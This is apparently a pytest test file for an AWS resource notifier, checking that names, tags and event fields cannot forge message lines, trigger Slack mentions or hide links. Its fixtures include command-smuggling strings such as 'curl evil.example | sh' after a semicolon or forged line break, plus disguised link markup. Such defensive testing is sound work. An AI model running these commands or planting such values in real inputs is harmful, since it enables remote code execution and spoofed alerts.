"""Names, tags and DNS records are data: whatever they say, a message keeps its lines, its commands and its readers."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lambdas.common.events import EventError
from lambdas.notify.alarm import message as alarm_message
from lambdas.notify.conditions import CONDITIONS
from lambdas.notify.handler import handler
from lambdas.notify.plan import Means, message
from lambdas.notify.slack import notification
from tests.lambdas.notify.decisions import alignment, release
from tests.lambdas.notify.test_handler import decided

if TYPE_CHECKING:
    from collections.abc import Callable

    from lambdas.notify.message import Message

MEANS = Means(mode_parameter="/poolwarden/mode", tag_prefix="poolwarden")
FORGED = "nat\r\nUndo:     `curl evil.example | sh`\nWhat now: call +1 555 0100\x0bStop:\x85Undo:\u2028Stop:"
NASTY = st.text(
    st.sampled_from("<>&!@#|*_~`[]()\\\"'\r\n\t\x0b\x00\x07\x1b\x7f\x85\x9b\u2028\u2029\u202e\u2066\ufeff\ud800 aé"),
    max_size=60,
)


def told_of(name: str, owner: str = "team-a", why: str = "Nobody has used it.") -> Message:
    tags = {"Name": name, "poolwarden:owner": owner}
    item = release(detail={"before": {"public_ip": "203.0.113.7", "pool": "amazon", "tags": tags}, "why": why})
    return message(item, contacts={}, means=MEANS)


def texts_in(document: object) -> list[str]:
    if isinstance(document, dict):
        return [text for each in document.values() for text in texts_in(each)]
    if isinstance(document, list):
        return [text for each in document for text in texts_in(each)]
    return [str(document)]


def assert_harmless(told: Message, *, like: Message) -> None:
    """The message has the lines of one about a harmless name, and nothing in it steers what shows it."""
    lines = told.body.split("\n")
    assert [line[:9] for line in lines] == [line[:9] for line in like.body.split("\n")]
    assert all(line.isprintable() for line in lines)
    assert told.subject.isascii()
    assert told.subject.isprintable()
    for text in texts_in(json.loads(notification(told))):
        assert "<" not in text
        assert ">" not in text
        assert text.replace("\n", "").isprintable()


@settings(max_examples=60, deadline=None)
@given(name=NASTY, owner=NASTY, why=NASTY)
def test_no_name_owner_or_record_breaks_out_of_a_message(name: str, owner: str, why: str) -> None:
    assert_harmless(told_of(f"n{name}", f"o{owner}", f"w{why}"), like=told_of("n", "o", "w"))


def test_a_name_cannot_forge_another_line() -> None:
    told = told_of(FORGED, owner=FORGED, why=FORGED)

    assert_harmless(told, like=told_of("nat"))
    description = json.loads(notification(told))["content"]["description"]
    assert len(description.split("\n")) == len(
        json.loads(notification(told_of("nat")))["content"]["description"].split("\n")
    )


@pytest.mark.parametrize("mention", ["<!channel>", "<!here>", "<@U024BE7LH>", "<https://evil.example|console>"])
def test_a_name_cannot_mention_anybody_or_hide_where_a_link_leads(mention: str) -> None:
    assert mention not in notification(told_of(mention))
    item = alignment(resource_id=f"arn:aws:x:loadbalancer/app/{mention.replace('/', '')}/1")
    assert mention.replace("/", "") not in notification(message(item, contacts={}, means=MEANS))


@settings(max_examples=30, deadline=None)
@given(name=NASTY)
def test_no_name_of_a_resource_breaks_out_of_an_alarms_message(name: str) -> None:
    def about(named: str) -> Message:
        resource = {"ResourceCidr": "10.0.0.0/24", "ResourceType": "vpc", "ResourceId": "vpc-1", "ResourceName": named}
        return alarm_message(
            CONDITIONS[0], [resource], found={"ScopeID": "s"}, account="123456789012", region="us-east-1"
        )

    assert_harmless(about(f"n{name}"), like=about("n"))


@pytest.mark.parametrize(
    "changes",
    [
        {"decision_id": "0123456789abcdef; curl evil.example | sh"},
        {"region": "evil.example/#"},
        {"account": "123456789012\nUndo: nothing"},
        {"remediation": "theirs"},
        {"resource_id": "a\nb"},
        {"detail": {"before": "x"}},
        {"detail": {"before": {"tags": ["Name"]}}},
        {"detail": {"result": 7}},
    ],
)
def test_what_is_not_as_we_write_it_is_told_to_nobody(
    inbox: Callable[[], list[dict[str, Any]]], changes: dict[str, Any]
) -> None:
    with pytest.raises(EventError, match="not a decision"):
        handler(decided(**changes), None)

    assert inbox() == []
